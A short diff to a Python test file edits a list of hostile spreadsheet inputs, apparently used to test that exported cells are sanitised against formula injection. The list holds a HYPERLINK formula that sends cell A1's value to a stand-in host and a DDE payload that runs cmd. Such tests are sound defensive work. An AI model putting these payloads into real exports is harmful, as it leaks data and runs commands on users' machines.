@@ -12,7 +12,7 @@ from tests.conftest import run_cli
 from tests.test_audit import COMMUNITY, STANDARDS
 
 HOSTILE = [
-    '=HYPERLINK("http://example.invalid/?"&A1,"点此")',
+    '=HYPERLINK("http://x.invalid/?"&A1,"点")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1,2)",
